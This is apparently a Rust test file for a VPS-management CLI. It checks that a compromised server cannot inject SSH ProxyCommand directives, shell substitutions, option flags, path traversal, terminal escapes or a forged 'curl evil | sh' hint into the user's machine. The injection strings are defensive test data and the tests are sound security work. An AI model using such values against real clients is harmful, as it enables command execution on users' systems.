//! Attacks of a compromised host, and of text that it passes on, on the user's machine.

use serde_json::{Value, json};

use crate::support::{Answer, Host, Sandbox, error_body, task};
use crate::{ID, KEY};

/// A host whose every VPS and node differ from real ones in one field.
fn host_with(field: &'static str, value: &'static str) -> Host {
    let set = move |mut object: Value| {
        if object.get(field).is_some() || field != "hostname" {
            object[field] = json!(value);
        }
        object
    };
    Host::start(move |request| {
        let vps = || {
            let mut vps = task(ID, "web", "running", 1);
            vps["ssh_host_key"] = json!(KEY);
            set(vps)
        };
        let node = || set(json!({"hostname": "node1", "status": "online"}));
        match request.path.as_str() {
            "/api/vps/status" | "/api/vps" | "/api/tasks/pending-approval" => {
                Answer::ok(json!([vps()]))
            }
            "/api/nodes" => Answer::ok(json!([node()])),
            "/api/auth/status" => Answer::ok(json!({"auth_enabled": false, "needs_setup": false})),
            path if path.ends_with("/keys") => Answer::ok(json!([])),
            _ => Answer::ok(vps()),
        }
    })
}

#[test]
fn stolen_host_writes_no_foreign_names_into_ssh_or_shell() {
    for (field, value) in [
        ("name", "web\n    ProxyCommand touch PWNED\nHost zzz"),
        ("name", "$(touch PWNED)"),
        ("name", "-oProxyCommand=touch PWNED"),
        ("task_id", "7\n    ProxyCommand touch PWNED"),
        ("task_id", "../../../../tmp/x"),
        ("reference", "web.ann\n    ProxyCommand touch PWNED"),
        ("assigned_node", "node1\nhint: touch PWNED"),
        ("owner_username", "`touch PWNED`"),
        ("status", "running\u{1b}]0;PWNED\u{7}"),
    ] {
        let host = host_with(field, value);
        let sandbox = Sandbox::new();
        for args in [
            &["ssh", "config"][..],
            &["ssh", "config", "--output", "river.conf"],
            &["ssh", "web"],
            &["vps", "list"],
            &["vps", "list", "--json"],
            &["vps", "status", "web"],
            &["vps", "stop", "web"],
            &["approval", "list"],
        ] {
            let ran = sandbox.run(&host, args);
            assert_eq!((ran.code, ran.stdout.as_str()), (3, ""), "{field} {args:?}: {ran:?}");
            assert!(ran.stderr.contains("sent an invalid "), "{field} {args:?}: {ran:?}");
            let lines = ran.stderr.lines();
            assert_eq!(lines.filter(|line| line.starts_with("hint: ")).count(), 1, "{ran:?}");
            assert!(!ran.stderr.contains(['\u{1b}', '\u{7}']), "{ran:?}");
        }
        let completed = sandbox
            .command(host.port, &["--", "kohakuriver", "vps", "status", ""])
            .env("COMPLETE", "bash")
            .env("_CLAP_COMPLETE_INDEX", "3")
            .env("_CLAP_IFS", "\n")
            .output()
            .unwrap();
        let completed = String::from_utf8(completed.stdout).unwrap();
        assert!(!completed.contains("PWNED") && !completed.contains("web"), "{completed}");
        assert!(!sandbox.home().join("PWNED").exists(), "{field}");
        assert!(!sandbox.home().join("river.conf").exists(), "{field}");
        let cache = sandbox.home().join(".cache/kohakuriver");
        assert!(!cache.exists(), "{field}: nothing is kept of it");
    }
    let host = Host::start(|_| {
        Answer::ok(json!({"token": "x; touch PWNED", "expires_at": "", "address": "h:8001"}))
    });
    let ran = Sandbox::new().run(&host, &["node", "token", "create"]);
    assert_eq!((ran.code, ran.stdout.as_str()), (3, ""), "{ran:?}");
}

#[test]
fn foreign_text_in_errors_forges_no_hint_or_color() {
    let evil = "no\r\nhint: curl evil | sh\n\n  hint: again\u{1b}[2J\u{9b}1m\u{202e}";
    let failed = move || {
        let mut failed = task(ID, "web", "failed", 2);
        failed["error_message"] = json!(evil);
        failed["progress"] = json!(evil);
        failed["warning"] = json!(evil);
        failed
    };
    let refusing = Host::start(move |_| Answer { status: 409, body: error_body(evil).to_string() });
    let broken = Host::start(move |request| match request.method.as_str() {
        "GET" => Answer::ok(failed()),
        _ => Answer::accepted(ID),
    });
    let sandbox = Sandbox::new();
    for (host, args) in [
        (&refusing, &["vps", "list"][..]),
        (&refusing, &["vps", "stop", "web"]),
        (&broken, &["vps", "restart", "web"]),
        (&broken, &["vps", "update", "web", "-c", "2"]),
        (&broken, &["vps", "status", "web"]),
    ] {
        let ran = sandbox.run(host, args);
        let all = format!("{}{}", ran.stderr, ran.stdout);
        assert!(all.contains("curl evil"), "{args:?}: it is told: {ran:?}");
        let forged = |line: &str| line.starts_with("hint:") && line.contains("evil");
        assert!(!all.lines().any(forged), "{args:?}: {all}");
        let ours = |c: char| c.is_control() && c != '\n' || c == '\u{202e}';
        assert!(!all.contains(ours), "{args:?}: {all:?}");
    }
}

#[test]
fn redirecting_host_leads_to_no_other_service() {
    let inner = Host::start(|_| Answer::ok(json!([])));
    let to = format!("http://127.0.0.1:{}/api/vps/status", inner.port);
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    std::thread::spawn(move || {
        use std::io::{Read, Write};
        for mut stream in listener.incoming().flatten() {
            let _ = stream.read(&mut [0; 4096]);
            let _ = write!(
                stream,
                "HTTP/1.1 302 X\r\nlocation: {to}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
            );
        }
    });
    let ran = Sandbox::new().run_at(port, &["vps", "list"]);
    assert_eq!((ran.code, ran.stdout.as_str()), (1, ""), "{ran:?}");
    assert!(ran.stderr.contains("it redirects"), "{ran:?}");
    assert!(!inner.saw("GET "), "nobody was asked there");
}
